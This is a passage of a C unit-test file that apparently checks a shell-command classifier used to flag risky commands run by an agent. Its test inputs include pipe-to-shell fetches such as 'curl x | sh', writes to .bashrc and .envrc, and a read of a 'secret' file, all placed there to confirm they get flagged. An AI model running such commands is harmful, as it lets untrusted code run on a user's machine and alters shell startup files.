        { "sed 'w .bashrc' f", ".bashrc", 1, 0 },
        { "sed 's/a/b/w out' f", "out", 1, 0 },
        { "sed 'r secret' f", "secret", 0, 0 },
        { "sed 'w " LONG_VALUE "' f", LONG_VALUE, 1, 0 },
        { "bash -c 'echo x > .envrc'", ".envrc", 1, 0 },
        { "echo $(echo x > inner)", "inner", 1, 0 },
    };

    (void)state;
    for (size_t i = 0; i < sizeof cases_r / sizeof cases_r[0]; i++) {
        nu_cmd_analysis_t a;
        assert_int_equal(nu_classify_shell(cases_r[i].command, &a), NU_OK);
        const nu_redirect_t *r = find_redirect(&a, cases_r[i].target);
        if (r == NULL)
            print_error("no redirect '%s' in: %s\n", cases_r[i].target,
                        cases_r[i].command);
        assert_non_null(r);
        assert_int_equal(r->write, cases_r[i].write);
        assert_int_equal(r->dynamic, cases_r[i].dynamic);
        nu_cmd_analysis_free(&a);
    }
}

static void test_classify_fd_duplications_not_files(void **state)
{
    nu_cmd_analysis_t a;

    (void)state;
    assert_int_equal(nu_classify_shell("make 2>&1 >&2 3>&- <&0 <<EOF\nx\nEOF", &a),
                     NU_OK);
    assert_int_equal(a.ncmds, 1);
    assert_int_equal(a.cmds[0].nredirects, 0);
    nu_cmd_analysis_free(&a);
}

static void test_classify_env_recorded(void **state)
{
    nu_cmd_analysis_t a;

    (void)state;
    assert_int_equal(nu_classify_shell("A=1 B='x y' env C=3 git push", &a), NU_OK);
    assert_int_equal(a.ncmds, 2);
    assert_int_equal(a.cmds[0].nenv, 2);
    assert_string_equal(a.cmds[0].env[0], "A=1");
    assert_string_equal(a.cmds[0].env[1], "B=x y");
    assert_int_equal(a.cmds[1].nenv, 3);
    assert_string_equal(a.cmds[1].env[2], "C=3");
    assert_string_equal(a.cmds[1].argv[0], "git");
    assert_null(a.cmds[1].argv[a.cmds[1].argc]);
    assert_int_equal(a.cmds[1].operation, NU_OP_GIT_PUSH);
    assert_int_equal(a.cmds[0].operation, NU_OP_GIT_PUSH);
    assert_int_equal(a.flags, 0);
    nu_cmd_analysis_free(&a);
}

static void test_classify_flags_per_command(void **state)
{
    nu_cmd_analysis_t a;

    (void)state;
    assert_int_equal(nu_classify_shell("ls; curl x | sh & python3 -c 1", &a), NU_OK);
    assert_int_equal(a.ncmds, 4);
    assert_int_equal(a.cmds[0].flags, 0);
    assert_int_equal(a.cmds[1].flags, NET | BG);
    assert_int_equal(a.cmds[1].operation, NU_OP_WEB_FETCH);
    assert_int_equal(a.cmds[2].flags, EVAL | BG);
    assert_int_equal(a.cmds[3].flags, CODE);
    assert_int_equal(a.operation, NU_OP_WEB_FETCH);
    assert_true(a.ops & NU_OPSET(NU_OP_WEB_FETCH));
    assert_false(a.ops & NU_OPSET(NU_OP_GIT_PUSH));
    nu_cmd_analysis_free(&a);
}

static void test_classify_operation_order(void **state)
{
    static const struct {
        const char *command;
        nu_op_t op;
        nu_opset_t ops;
    } order[] = {
        { "git commit -m x; curl y; git push", NU_OP_GIT_PUSH,
          NU_OPSET(COMMIT) | NU_OPSET(FETCH) | NU_OPSET(PUSH) },
        { "git commit -m x; curl y", NU_OP_WEB_FETCH,
          NU_OPSET(COMMIT) | NU_OPSET(FETCH) },
        { "ls; git commit -m x", NU_OP_GIT_COMMIT, NU_OPSET(COMMIT) },
        { "curl y; gh pr create", NU_OP_CREATE_PR, NU_OPSET(FETCH) | NU_OPSET(PR) },
        { "ls", NU_OP_RUN_BASH, 0 },
        { "", NU_OP_RUN_BASH, 0 },
    };

    (void)state;
    for (size_t i = 0; i < sizeof order / sizeof order[0]; i++) {
        nu_cmd_analysis_t a;
        assert_int_equal(nu_classify_shell(order[i].command, &a), NU_OK);
        assert_int_equal(a.operation, order[i].op);
        assert_int_equal(a.ops, order[i].ops | NU_OPSET(NU_OP_RUN_BASH));
        nu_cmd_analysis_free(&a);
    }
}

static void test_classify_argv_vector(void **state)
{
    char *push[] = { "git", "-C", "x", "push", NULL };
    char *inline_sh[] = { "bash", "-c", "curl x | sh", NULL };
    char *spaced[] = { "echo", "a; git push", NULL };
    char *dollar[] = { "$x", "y", NULL };
    nu_cmd_analysis_t a;

    (void)state;
    assert_int_equal(nu_classify_argv(4, push, &a), NU_OK);
    assert_int_equal(a.operation, NU_OP_GIT_PUSH);
    assert_int_equal(a.ncmds, 1);
    nu_cmd_analysis_free(&a);

    assert_int_equal(nu_classify_argv(3, inline_sh, &a), NU_OK);
    assert_int_equal(a.operation, NU_OP_WEB_FETCH);
    assert_int_equal(a.flags, EVAL | CODE | NET);
    assert_int_equal(a.ncmds, 3);
    nu_cmd_analysis_free(&a);

    /* Without a shell, metacharacters are data. */
    assert_int_equal(nu_classify_argv(2, spaced, &a), NU_OK);
    assert_int_equal(a.operation, NU_OP_RUN_BASH);
    assert_int_equal(a.ncmds, 1);
    assert_string_equal(a.cmds[0].argv[1], "a; git push");
    nu_cmd_analysis_free(&a);

    /* Without a shell, "$x" is a literal program name. */
    assert_int_equal(nu_classify_argv(2, dollar, &a), NU_OK);
    assert_int_equal(a.flags, 0);
    nu_cmd_analysis_free(&a);

    assert_int_equal(nu_classify_argv(0, push, &a), NU_OK);
    assert_int_equal(a.ncmds, 0);
    nu_cmd_analysis_free(&a);

    assert_int_equal(nu_classify_argv(-1, push, &a), NU_EINVAL);
    assert_int_equal(nu_classify_shell(NULL, &a), NU_EINVAL);
}

static void test_classify_add_exec_option(void **state)
{
    nu_cmd_analysis_t a;

    (void)state;
    assert_int_equal(nu_classify_shell("mytool --hook=./x run", &a), NU_OK);
    assert_int_equal(a.flags, 0);
    nu_cmd_analysis_free(&a);

    assert_int_equal(nu_classify_add_exec_option("mytool", "--hook="), NU_OK);
    assert_int_equal(nu_classify_add_exec_option("mytool deploy", "*"), NU_OK);
    assert_int_equal(nu_classify_add_exec_option("", "x"), NU_EINVAL);
    assert_int_equal(nu_classify_add_exec_option("x", NULL), NU_EINVAL);

    assert_int_equal(nu_classify_shell("mytool --hook=./x run", &a), NU_OK);
    assert_int_equal(a.flags, EXEC);
    assert_non_null(strstr(a.reason, "mytool --hook="));
    nu_cmd_analysis_free(&a);

    assert_int_equal(nu_classify_shell("mytool --hook ./x run", &a), NU_OK);
    assert_int_equal(a.flags, EXEC);
    nu_cmd_analysis_free(&a);

    assert_int_equal(nu_classify_shell("mytool deploy now", &a), NU_OK);
    assert_int_equal(a.flags, EXEC);
    nu_cmd_analysis_free(&a);

    assert_int_equal(nu_classify_shell("mytool status", &a), NU_OK);
    assert_int_equal(a.flags, 0);
    nu_cmd_analysis_free(&a);
}

static void test_classify_builtin_table_terminated(void **state)
{
    size_t n = 0;

    (void)state;
    while (nu_exec_options_builtin[n].program != NULL) {
        assert_non_null(nu_exec_options_builtin[n].option);
        n++;
    }
    assert_true(n > 50);
}

static void test_classify_heredoc_body_is_data(void **state)
{
    nu_cmd_analysis_t a;

    (void)state;
    assert_int_equal(nu_classify_shell("cat <<'EOF' > x.py\nimport os\n"
                                       "os.system('git push')\n$(curl x)\n"
                                       "EOF\npython3 x.py", &a), NU_OK);
    assert_int_equal(a.operation, NU_OP_RUN_BASH);
    assert_int_equal(a.flags, 0);
    assert_int_equal(a.ncmds, 2);
    assert_string_equal(a.cmds[1].argv[0], "python3");
    assert_non_null(find_redirect(&a, "x.py"));
    nu_cmd_analysis_free(&a);
}

/* Every run command of the recorded agent trajectories: no crash, the same
 * result twice, and no parse error. */
static void test_classify_trajectories(void **state)
{
    const char *shared = getenv("NU_SHARED_DIR");
    char path[4096], line[1 << 17];
    size_t total = 0;

    (void)state;
    if (shared == NULL) {
        print_message("skipped: NU_SHARED_DIR is not set\n");
        return;
    }
    snprintf(path, sizeof path, "%s/cases/trajectories", shared);

    char listcmd[4200];
    snprintf(listcmd, sizeof listcmd, "ls '%s'/*.jsonl 2>/dev/null", path);
    FILE *list = popen(listcmd, "r");
    assert_non_null(list);
    char file[4096];
    while (fgets(file, sizeof file, list) != NULL) {
        file[strcspn(file, "\n")] = '\0';
        FILE *f = fopen(file, "re");
        assert_non_null(f);
        while (fgets(line, sizeof line, f) != NULL) {
            json_error_t jerr;
            json_t *o = json_loads(line, 0, &jerr);
            assert_non_null(o);
            const char *tool = json_string_value(json_object_get(o, "tool"));
            const char *cmd = json_string_value(json_object_get(o, "command"));
            if (tool != NULL && strcmp(tool, "run") == 0 && cmd != NULL) {
                nu_cmd_analysis_t a, b;
                assert_int_equal(nu_classify_shell(cmd, &a), NU_OK);
                assert_int_equal(nu_classify_shell(cmd, &b), NU_OK);
                if (a.flags & (BAD | BIG))
                    print_error("%s: %s\n", a.reason, cmd);
                assert_false(a.flags & (BAD | BIG));
                assert_int_equal(a.flags, b.flags);
                assert_int_equal(a.operation, b.operation);
                assert_int_equal(a.ncmds, b.ncmds);
                assert_true(a.ncmds > 0);
                nu_cmd_analysis_free(&a);
                nu_cmd_analysis_free(&b);
                total++;
            }
            json_decref(o);
        }
        fclose(f);
    }
    pclose(list);
    if (total == 0)
        print_message("skipped: no trajectories under %s\n", path);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_classify_table),
        cmocka_unit_test(test_classify_hidden_programs_flagged),
        cmocka_unit_test(test_classify_invalid_input_flagged),
        cmocka_unit_test(test_classify_limits),
        cmocka_unit_test(test_classify_redirect_targets),
        cmocka_unit_test(test_classify_fd_duplications_not_files),
        cmocka_unit_test(test_classify_env_recorded),
        cmocka_unit_test(test_classify_flags_per_command),
        cmocka_unit_test(test_classify_operation_order),
        cmocka_unit_test(test_classify_argv_vector),
        cmocka_unit_test(test_classify_add_exec_option),
        cmocka_unit_test(test_classify_builtin_table_terminated),
        cmocka_unit_test(test_classify_heredoc_body_is_data),
        cmocka_unit_test(test_classify_trajectories),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
